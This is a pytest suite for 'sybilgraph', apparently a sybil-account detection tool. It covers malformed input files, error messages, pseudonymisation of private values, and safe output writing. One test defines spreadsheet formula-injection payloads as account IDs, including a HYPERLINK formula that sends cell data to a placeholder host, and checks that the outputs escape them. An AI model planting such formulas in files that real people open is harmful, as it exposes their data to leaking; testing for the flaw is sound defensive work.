"""Hostile and broken input, private data, and outputs that are never half-written.

Every broken input ends one of three ways: its rows are used, or they are in the rejects
table with a reason, or the run stops with one line naming the file (and row or column)
and a non-zero exit. Nothing else escapes, and ``rows read = used + rejected`` always
equals the number of records in the file.
"""

from __future__ import annotations

import csv
import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import sybilgraph
from sybilgraph import pipeline
from sybilgraph.cli import main
from sybilgraph.config import Config
from sybilgraph.engines import make_engine
from sybilgraph.engines.sources import discover
from sybilgraph.errors import InputError, SybilgraphError
from sybilgraph.stages.load import load
from sybilgraph.stages.normalize import normalize_ips
from sybilgraph.stages.privacy import SECRET_ENV, Pseudonymiser
from sybilgraph.stages.tables import LoadStats
from tests.loaded import with_texts

from .conftest import hand_events

HEADER = b"account_id,ts,ip,payment_id,prompt\n"
GOOD = b"a9,2026-04-13T00:00:00Z,192.0.2.1,pm_9,hello\n"
COLUMNS = ["account_id", "ts", "ip", "payment_id", "prompt"]


def _load(path: Path) -> tuple[LoadStats, list[dict[str, object]], list[dict[str, object]]]:
    engine = make_engine(Config().engine)
    try:
        loaded = load(engine, discover([path]), Config())
        stats = loaded.stats
        events = engine.arrow(f"SELECT * FROM {with_texts(loaded)} ORDER BY _row").to_pylist()
        rejects = engine.arrow(f'SELECT * FROM {loaded.rejects} ORDER BY "row"').to_pylist()
    finally:
        engine.close()
    return stats, events, rejects


def _invoke(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


# -- property tests -------------------------------------------------------------------

cell = st.one_of(
    st.none(),
    st.text(st.characters(exclude_categories=("Cs",)), max_size=30),
    st.sampled_from(
        [
            "",
            " ",
            "2026-04-13T00:00:00Z",
            "1776038400",
            "1776038400000",
            "1900-01-01",
            "10.0.0.1",
            "::ffff:10.0.0.1",
            "2001:db8::1",
            "NaN",
            "-1e309",
            '"',
            "\x00",
        ]
    ),
)
rows = st.lists(st.fixed_dictionaries({c: cell for c in COLUMNS}), min_size=1, max_size=12)


def _check_loaded(path: Path, n_records: int) -> None:
    try:
        stats, events, rejects = _load(path)
    except SybilgraphError:
        return  # a clean, one-line error is an allowed outcome
    assert stats.read == stats.used + stats.rejected == n_records
    assert len(events) == stats.used and len(rejects) == stats.rejected
    assert all(r["reason"] for r in rejects)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows)
def test_arbitrary_csv_rows_are_used_or_rejected(tmp_path: Path, data: list[dict]) -> None:
    path = tmp_path / "events.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, COLUMNS)
        writer.writeheader()
        writer.writerows(data)
        handle.write(GOOD.decode())
    _check_loaded(path, len(data) + 1)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows)
def test_arbitrary_jsonl_rows_are_used_or_rejected(tmp_path: Path, data: list[dict]) -> None:
    path = tmp_path / "events.jsonl"
    lines = [json.dumps(row) for row in data]
    lines.append(json.dumps(dict(zip(COLUMNS, GOOD.decode().strip().split(","), strict=True))))
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    _check_loaded(path, len(data) + 1)


@settings(
    max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows)
def test_whole_pipeline_on_arbitrary_rows(tmp_path: Path, data: list[dict]) -> None:
    frame = pd.DataFrame(data, columns=COLUMNS)
    frame.loc[len(frame)] = GOOD.decode().strip().split(",")
    out = tmp_path / "out"
    try:
        result = sybilgraph.run(frame, Config(), out, force=True)
    except SybilgraphError:
        return
    rows_info = result.info["rows"]
    assert rows_info["read"] == rows_info["used"] + rows_info["rejected"] == len(frame)
    rejects = pd.read_csv(out / "rejects.csv", keep_default_na=False)
    assert len(rejects) == rows_info["rejected"]
    assert (rejects["reason"].astype(str).str.len() > 0).all()


@settings(max_examples=30, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(max_size=45)), max_size=20))
def test_ip_normaliser_takes_any_text(values: list[str | None]) -> None:
    table = normalize_ips(pa.array(values, pa.string()))
    assert table.num_rows == len(values)
    for raw, ip, reason in zip(
        values, table.column("ip").to_pylist(), table.column("reason").to_pylist(), strict=True
    ):
        if raw is None or not raw.strip():
            assert ip is None  # blank counts as missing
            continue
        # each address is either parsed or refused with a reason, never both or neither
        assert (ip is None) != (reason is None), (raw, ip, reason)


@settings(max_examples=30, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=("Cs",)), max_size=30), max_size=20))
def test_timestamp_parser_takes_any_text(values: list[str]) -> None:
    engine = make_engine(Config().engine)
    try:
        engine.register("ts_in", pa.table({"t": pa.array(values, pa.string())}))
        parsed = engine.arrow(f"SELECT {engine.dialect.parse_ts('t')} AS ts FROM ts_in").column(
            "ts"
        )
    finally:
        engine.close()
    assert len(parsed) == len(values)


# -- fixed cases ----------------------------------------------------------------------

#: name -> (file bytes, used, rejected, a reason expected among the rejects)
ROW_CASES: dict[str, tuple[bytes, int, int, str]] = {
    "crlf": (
        (HEADER + GOOD + b"a2,2026-04-13T00:00:00Z,,,\n").replace(b"\n", b"\r\n"),
        2,
        0,
        "",
    ),
    "mixed_line_endings": (HEADER + GOOD.replace(b"\n", b"\r\n") + b"a2,2026-04-13,,,\n", 2, 0, ""),
    "bom": (b"\xef\xbb\xbf" + HEADER + GOOD, 1, 0, ""),
    "quoted_newline": (HEADER + GOOD + b'a2,2026-04-13,,,"line one\nline two"\n', 2, 0, ""),
    "nul_bytes": (HEADER + GOOD + b"a2,2026-04-13,,pm\x002,hi\x00there\n", 2, 0, ""),
    "non_utf8": (HEADER + GOOD + b"a2,2026-04-13,,pm_\xff\xfe,caf\xe9\n", 1, 1, "INVALID ENCODING"),
    "too_many_fields": (HEADER + GOOD + b"a2,2026-04-13,,,hi,EXTRA\n", 1, 1, "TOO MANY COLUMNS"),
    "too_few_fields": (HEADER + GOOD + b"a2,2026-04-13\n", 1, 1, "MISSING COLUMNS"),
    # the line whose quote never closes is rejected; the lines after it are read
    "unclosed_quote": (
        HEADER + GOOD + b'a2,2026-04-13,,,"never closed\na3,x,,,\na4,2026-04-13,,,\n',
        2,
        2,
        "UNQUOTED VALUE",
    ),
    "wrong_types": (
        HEADER + GOOD + b"a2,yesterday,,,\na3,2026-04-13,not-an-ip,,\n",
        1,
        2,
        "unparseable ts: yesterday",
    ),
    "absurd_dates": (
        HEADER
        + GOOD
        + b"a2,1900-01-01,,,\na3,9999-12-31T00:00:00Z,,,\na4,2026-02-30,,,\n"
        + b"a5,-5,,,\na6,99999999999999999999,,,\n",
        1,
        5,
        "ts out of range: 1900-01-01",
    ),
    "empty_string_and_null": (
        HEADER + GOOD + b'"",2026-04-13,,,\n  ,2026-04-13,,,\na4,2026-04-13,"",  ,""\n',
        2,
        2,
        "missing account_id",
    ),
    "missing_ts": (HEADER + GOOD + b"a2,,,,\n", 1, 1, "missing ts"),
    # repeated requests are real traffic: duplicates are kept, each counts as a request
    "duplicate_rows": (HEADER + GOOD + GOOD, 2, 0, ""),
}


@pytest.mark.parametrize("case", sorted(ROW_CASES))
def test_broken_rows(tmp_path: Path, case: str) -> None:
    content, used, rejected, reason = ROW_CASES[case]
    path = tmp_path / "events.csv"
    path.write_bytes(content)
    stats, _, rejects = _load(path)
    assert (stats.used, stats.rejected) == (used, rejected), rejects
    assert stats.read == stats.used + stats.rejected
    if reason:
        assert any(reason in str(r["reason"]) for r in rejects), rejects
    assert all(r["reason"] for r in rejects)


def test_nul_bytes_and_newlines_kept_as_data(tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    path.write_bytes(HEADER + b'a2,2026-04-13,,pm\x002,"one\ntwo"\n')
    _, events, _ = _load(path)
    assert events[0]["payment_id"] == "pm\x002"
    assert events[0]["prompt"] == "one\ntwo"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-04-13T00:00:00Z", "2026-04-13 00:00:00"),
        ("2026-04-13T02:00:00+02:00", "2026-04-13 00:00:00"),
        ("2026-04-13 00:00:00", "2026-04-13 00:00:00"),  # no zone: UTC
        ("2026-04-13T00:00:00-05:00", "2026-04-13 05:00:00"),
        ("1776038400", "2026-04-13 00:00:00"),  # epoch seconds
        ("1776038400000", "2026-04-13 00:00:00"),  # epoch milliseconds
        ("1776038400.5", "2026-04-13 00:00:00.500000"),
    ],
)
def test_timestamp_forms(tmp_path: Path, text: str, expected: str) -> None:
    path = tmp_path / "events.csv"
    path.write_text(f"account_id,ts\na1,{text}\n")
    _, events, _ = _load(path)
    assert str(events[0]["ts"]) == expected


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("empty.csv", b"", "file is empty"),
        ("header_only.csv", HEADER, "no events in input"),
        ("image.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "binary data"),
        ("garbage.parquet", b"not parquet\n" * 10, "cannot read as parquet"),
        (
            "broken.jsonl",
            b'{"account_id": "a1", "ts": "2026-04-13"}\nnot json\n',
            "row 2: not a JSON",
        ),
        # a JSON array of the events, not one object a line: read as no key at all
        (
            "array.jsonl",
            b'[{"account_id": "a1", "ts": "2026-04-13"}, {"account_id": "a2"}]\n',
            "row 1: a JSON array, not a JSON object",
        ),
        ("all_bad.csv", HEADER + b"a1,never,,,\n", "none of the 1 rows is usable"),
    ],
)
def test_unreadable_files_fail_with_one_line(
    tmp_path: Path, name: str, content: bytes, message: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(InputError, match=message) as caught:
        _load(path)
    assert name in str(caught.value) and "\n" not in str(caught.value)
    code, _, stderr = _invoke("detect", str(path), "--out", str(tmp_path / "o"))
    assert code == 2
    assert stderr.strip().splitlines()[-1].startswith(f"sybilgraph: error: {path}")
    assert "Traceback" not in stderr


def test_a_parquet_file_damaged_past_its_schema_fails_with_one_line(tmp_path: Path) -> None:
    """A Parquet file is read where its rows are used, not on opening: a damaged page
    is still an error naming the file, not an internal one."""
    path = tmp_path / "damaged.parquet"
    prompts = [f"prompt {i} " + "x" * (i % 97) for i in range(20000)]
    table = pa.table(
        {
            "account_id": [f"a{i % 300}" for i in range(20000)],
            "ts": ["2026-04-13T10:00:00Z"] * 20000,
            "prompt": prompts,
        }
    )
    pq.write_table(table, path, compression="zstd")
    data = bytearray(path.read_bytes())
    middle = len(data) // 2
    data[middle : middle + 2000] = b"Z" * 2000
    path.write_bytes(bytes(data))
    with pytest.raises(InputError, match="cannot read as parquet") as caught:
        _load(path)
    assert "damaged.parquet" in str(caught.value) and "\n" not in str(caught.value)
    code, _, stderr = _invoke("detect", str(path), "--out", str(tmp_path / "o"))
    assert code == 2
    assert stderr.strip().splitlines()[-1].startswith(f"sybilgraph: error: {path}")
    assert "Traceback" not in stderr


def test_a_parquet_column_named_like_the_readers_row_number_is_read(tmp_path: Path) -> None:
    path = tmp_path / "events.parquet"
    table = pa.table(
        {
            "account_id": ["a1", "a2", " "],
            "ts": ["2026-04-13T10:00:00Z", "2026-04-13T11:00:00Z", "2026-04-13T12:00:00Z"],
            "file_row_number": ["x", "y", "z"],
        }
    )
    pq.write_table(table, path)
    stats, events, rejects = _load(path)
    assert [(e["account_id"], e["_row"]) for e in events] == [("a1", 1), ("a2", 2)]
    assert [(r["row"], r["reason"]) for r in rejects] == [(3, "missing account_id")]
    assert (stats.read, stats.used, stats.rejected) == (3, 2, 1)


# -- clear failures -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("setup", "expected"),
    [
        ("missing_account", "missing required column 'account_id'"),
        ("absent", "no such file or folder"),
        ("folder_named_csv", "folder holds no"),
        ("config_unknown", "bad.toml: unknown key 'privacy.secrett'"),
        ("config_type", "bad.toml: privacy.pages must be true or false"),
        ("config_absent", "nope.toml: no such config file"),
        ("config_not_toml", "bad.toml: not valid TOML"),
        ("memory_limit_garbage", "engine.memory_limit = 'lots'"),
    ],
)
def test_clear_failures(tmp_path: Path, setup: str, expected: str) -> None:
    events = tmp_path / "events.csv"
    hand_events().head(20).to_csv(events, index=False)
    config = tmp_path / "bad.toml"
    args = ["detect", str(events), "--out", str(tmp_path / "o")]
    if setup == "missing_account":
        hand_events().head(5).drop(columns="account_id").to_csv(events, index=False)
    elif setup == "absent":
        args[1] = str(tmp_path / "gone.csv")
    elif setup == "folder_named_csv":
        (tmp_path / "dir.csv").mkdir()
        args[1] = str(tmp_path / "dir.csv")
    else:
        text = {
            "config_unknown": "[privacy]\nsecrett = 'x'\n",
            "config_type": "[privacy]\npages = 'yes'\n",
            "config_not_toml": "[privacy\n",
            "memory_limit_garbage": "[engine]\nmemory_limit = 'lots'\n",
        }.get(setup)
        if text is not None:
            config.write_text(text)
        args += ["--config", str(config if text is not None else tmp_path / "nope.toml")]
    code, stdout, stderr = _invoke(*args)
    assert code == 2, stdout + stderr
    last = stderr.strip().splitlines()[-1]
    assert last.startswith("sybilgraph: error: ") and expected in last, stderr
    assert "Traceback" not in stderr + stdout
    code, _, stderr = _invoke("--debug", *args)
    assert code == 2 and "Traceback" in stderr


def test_out_of_memory_is_a_resource_error(hand_csv: Path, tmp_path: Path) -> None:
    config = tmp_path / "tiny.toml"
    config.write_text("[engine]\nmemory_limit = '1MB'\nthreads = 1\n")
    code, _, stderr = _invoke(
        "detect", str(hand_csv), "--out", str(tmp_path / "o"), "--config", str(config)
    )
    assert code == 3, stderr
    last = stderr.strip().splitlines()[-1]
    assert "out of memory" in last and "engine.memory_limit" in last
    assert "engine.temp_directory" in last


def test_engine_draws_no_progress_bar_of_its_own() -> None:
    # DuckDB prints a bar on stdout for every query longer than two seconds, even into a
    # file: a scheduled job's log would fill with them. Under pytest DuckDB starts with
    # the bar off, so the engine is asked in a process of its own, as a job would start it.
    code = (
        "from sybilgraph.config import Config\n"
        "from sybilgraph.engines import make_engine\n"
        "engine = make_engine(Config().engine)\n"
        "print(engine.scalar(\"SELECT current_setting('enable_progress_bar')\"))\n"
        "engine.close()\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "False"


# -- private data ---------------------------------------------------------------------


def _events_with_reject() -> pd.DataFrame:
    events = hand_events()
    bad = {"account_id": "zz", "ts": "never", "ip": "198.51.100.77", "payment_id": "pm_secret"}
    return pd.concat([events, pd.DataFrame([bad])], ignore_index=True)


def _private_values(events: pd.DataFrame) -> set[str]:
    values = set(events["ip"].dropna()) | set(events["payment_id"].dropna())
    return {str(v) for v in values if str(v)}


def _all_text(out: Path) -> str:
    """Every byte of every output file, plus the parquet tables as text."""
    parts = []
    for path in sorted(out.rglob("*")):
        if path.is_file():
            parts.append(path.read_bytes().decode("utf-8", "replace"))
            if path.suffix == ".parquet":
                parts.append(pd.read_parquet(path).to_csv())
    return "\n".join(parts)


def _pseudonyms(out: Path) -> set[str]:
    import re

    return set(re.findall(r"(?:ip|pay|net)~[0-9a-f]{12}", _all_text(out)))


def _private_config(**privacy: object) -> Config:
    return Config.from_dict({"privacy": {"tables": True, **privacy}})


def test_pseudonyms_hide_raw_values_everywhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_ENV, "week-secret-1")
    events = _events_with_reject()
    out = tmp_path / "run"
    sybilgraph.run(events, _private_config(), out)
    text = _all_text(out)
    leaked = sorted(v for v in _private_values(events) if v in text)
    assert leaked == []
    assert "week-secret-1" not in text
    assert any(p.startswith("ip~") for p in _pseudonyms(out))
    assert any(p.startswith("pay~") for p in _pseudonyms(out))
    assert list((out / "clusters").glob("*.html")) and list((out / "clusters").glob("*.gexf"))


def test_raw_values_appear_when_turned_off(tmp_path: Path) -> None:
    events = _events_with_reject()
    out = tmp_path / "run"
    sybilgraph.run(events, Config.from_dict({"privacy": {"pages": False}}), out)
    text = _all_text(out)
    assert "203.0.113.1" in text and "pm_ringA_1" in text
    pages = "".join(p.read_text() for p in (out / "clusters").glob("*.html"))
    assert "pm_ringA_1" in pages and "203.0.113.1" in pages
    assert _pseudonyms(out) == set()


def test_pages_are_pseudonymised_by_default_tables_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_ENV, "s")
    events = _events_with_reject()
    out = tmp_path / "run"
    sybilgraph.run(events, Config(), out)
    pages = "".join(
        p.read_text(encoding="utf-8", errors="replace")
        for p in (out / "clusters").iterdir()
        if p.suffix in (".html", ".graphml", ".gexf")
    )
    assert not [v for v in _private_values(events) if v in pages]
    assert "pay~" in pages
    assert "pm_secret" in (out / "rejects.csv").read_text()  # tables keep raw values


def test_pseudonyms_stable_across_runs_with_one_secret(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = _events_with_reject()
    found = []
    for i, secret in enumerate(["one", "one", "two"]):
        monkeypatch.setenv(SECRET_ENV, secret)
        out = tmp_path / f"run{i}"
        sybilgraph.run(events, _private_config(), out)
        found.append(_pseudonyms(out))
    assert found[0] and found[0] == found[1]
    assert not found[0] & found[2]
    expected = Pseudonymiser(b"one").pseudonym("payment", "pm_ringA_1")
    assert expected in found[0]


def test_secret_from_config_is_never_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.delenv(SECRET_ENV, raising=False)
    out = tmp_path / "run"
    sybilgraph.run(hand_events(), _private_config(secret="hunter2-config-secret"), out)
    assert "hunter2-config-secret" not in _all_text(out)
    assert "hunter2-config-secret" not in caplog.text
    info = json.loads((out / "run.json").read_text())
    assert info["config"]["privacy"]["secret"] == "<redacted>"
    assert info["privacy"]["stable_pseudonyms"] is True
    assert Pseudonymiser(b"hunter2-config-secret").pseudonym("ip", "203.0.113.1") in _all_text(out)


def test_without_secret_a_run_secret_and_a_warning(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.delenv(SECRET_ENV, raising=False)
    out = tmp_path / "run"
    sybilgraph.run(hand_events(), _private_config(), out)
    assert "will not match those of other runs" in caplog.text
    assert json.loads((out / "run.json").read_text())["privacy"]["stable_pseudonyms"] is False
    assert _pseudonyms(out)


# -- outputs --------------------------------------------------------------------------


def _snapshot(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _boom(*args: object, **kwargs: object) -> object:
    raise RuntimeError("interrupted while writing pages")


def test_interrupted_run_leaves_previous_outputs_untouched(
    hand_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "run"
    sybilgraph.run(hand_csv, Config(), out)
    before = _snapshot(out)
    monkeypatch.setattr(pipeline, "write_pages", _boom)
    with pytest.raises(RuntimeError):
        sybilgraph.run(hand_csv, Config.from_dict({"seed": 7}), out)
    assert _snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir() if "partial" in p.name] == []


def test_interrupted_first_run_leaves_nothing(
    hand_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "run"
    monkeypatch.setattr(pipeline, "write_pages", _boom)
    with pytest.raises(RuntimeError):
        sybilgraph.run(hand_csv, Config(), out)
    # the folder the run made goes too
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.csv"]


def test_out_refuses_foreign_folder_unless_forced(hand_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "mine"
    out.mkdir()
    (out / "thesis.tex").write_text("precious")
    code, _, stderr = _invoke("detect", str(hand_csv), "--out", str(out))
    assert code == 2 and "pass --force" in stderr
    assert sorted(p.name for p in out.iterdir()) == ["thesis.tex"]
    code, _, _ = _invoke("detect", str(hand_csv), "--out", str(out), "--force")
    assert code == 0
    assert (out / "thesis.tex").read_text() == "precious" and (out / "run.json").is_file()
    # a previous sybilgraph output is overwritten without --force
    code, _, _ = _invoke("detect", str(hand_csv), "--out", str(out))
    assert code == 0


def test_no_temporary_files_left(hand_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "run"
    sybilgraph.run(hand_csv, Config(), out)
    leftovers = [p for p in out.rglob("*") if p.name.startswith(".") or p.suffix == ".tmp"]
    assert leftovers == []


def test_private_links_are_the_links_with_values_renamed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_ENV, "links-secret")
    events = _events_with_reject()
    sybilgraph.run(events, Config(), tmp_path / "plain")
    sybilgraph.run(events, _private_config(), tmp_path / "private")
    plain = pd.read_parquet(tmp_path / "plain" / "links.parquet")
    private = pd.read_parquet(tmp_path / "private" / "links.parquet")
    assert list(private.columns) == list(plain.columns) and len(plain) > 0
    kept = [c for c in plain.columns if not c.endswith("_values") and c != "evidence"]
    pd.testing.assert_frame_equal(private[kept], plain[kept])
    names = Pseudonymiser(b"links-secret")
    renamed = 0
    for key, column in (("ip", "ip_values"), ("payment", "payment_values")):
        for raw, shown, n in zip(plain[column], private[column], plain[f"{key}_n"], strict=True):
            if pd.isna(raw) or n > 3:  # a sample of three may tie-break differently
                continue
            expected = {names.pseudonym(key, v) for v in raw.split(", ")}
            assert set(shown.split(", ")) == expected
            renamed += 1
    assert renamed > 0
    # the evidence text names the same keys and counts, with the pseudonyms
    first = private.iloc[0]
    assert first["evidence"].startswith(plain.iloc[0]["evidence"].split(" (")[0])


#: account ids a spreadsheet would take for formulas, and two that only look marked
_FORMULA_IDS = {
    "a1": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "a2": "+a2",
    "a3": "-a3",
    "a4": "@SUM(1)",
    "a5": "'=a5",
    "a6": "'a6",
}


def test_output_csvs_hold_no_formula_and_read_back_exactly(tmp_path: Path) -> None:
    # account ids, values and rejected rows are the sender's text: a cell that starts
    # like a formula is written with a ' before it, and every reader takes it off
    events = hand_events()
    events["account_id"] = events["account_id"].replace(_FORMULA_IDS)
    bad = events.iloc[:1].assign(account_id=None, prompt="=1+1")  # rejected: no account
    path = tmp_path / "events.csv"
    pd.concat([events, bad]).to_csv(path, index=False)
    out = tmp_path / "run"
    code, _, stderr = _invoke("detect", str(path), "--out", str(out))
    assert code == 0, stderr

    cells = {
        name: [cell for row in csv.reader((out / name).open(newline="")) for cell in row]
        for name in ("accounts.csv", "clusters.csv", "hubs.csv", "rejects.csv")
    }
    for name, found in cells.items():
        assert not [c for c in found if c[:1] in ("=", "+", "@", "\t", "\r")], name
    written = set(cells["accounts.csv"])
    assert {"'" + _FORMULA_IDS[a] for a in ("a1", "a2", "a3", "a4")} <= written
    assert {"''=a5", "'a6"} <= written  # a text that starts with '= gets one more '
    assert "'=1+1" in cells["rejects.csv"]

    result = sybilgraph.open(out)
    ring = result.accounts.set_index("account_id").loc[list(_FORMULA_IDS.values())]
    assert ring["flagged"].all() and ring["cluster_id"].nunique() == 1  # ring A, whole
    assert "=1+1" in result.rejects.to_numpy().ravel().tolist()

    # a verdict on such an account goes into the labels file marked, and comes back whole
    result.label(_FORMULA_IDS["a1"], "sybil", note="=2+2")
    labels = tmp_path / "labels.csv"
    assert "'=HYPERLINK" in labels.read_text() and ",'=2+2," in labels.read_text()
    again = sybilgraph.run(path, Config(labels=str(labels)), tmp_path / "again")
    assert _FORMULA_IDS["a1"] in set(again.accounts["account_id"])
    assert again.clusters.loc[again.clusters["rank"] == 1, "reasons"].str.contains("sybil").all()


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.none(),
            st.text(
                st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "a", " ", '"']), max_size=4
            ),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_marked_cells_read_back_as_written(texts: list[str | None]) -> None:
    # whatever the text, the mark written for a spreadsheet is undone exactly on reading
    import io

    from sybilgraph.outputs import spreadsheet_safe, text_of_cells

    frame = pd.DataFrame({"text": pd.Series(texts, dtype=object), "n": range(len(texts))})
    safe = spreadsheet_safe(frame)
    marked = [t for t in safe["text"] if isinstance(t, str)]
    assert not [t for t in marked if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    handle = io.StringIO()
    safe.to_csv(handle, index=False, lineterminator="\r\n")
    handle.seek(0)
    back = text_of_cells(pd.read_csv(handle, dtype={"text": str}, keep_default_na=False))
    assert back["text"].tolist() == ["" if t is None else t for t in texts]
    # and a text that starts otherwise is written as it is
    plain = [t for t in texts if isinstance(t, str) and t[:1] not in "=+-@\t\r'"]
    assert set(plain) <= set(safe["text"])
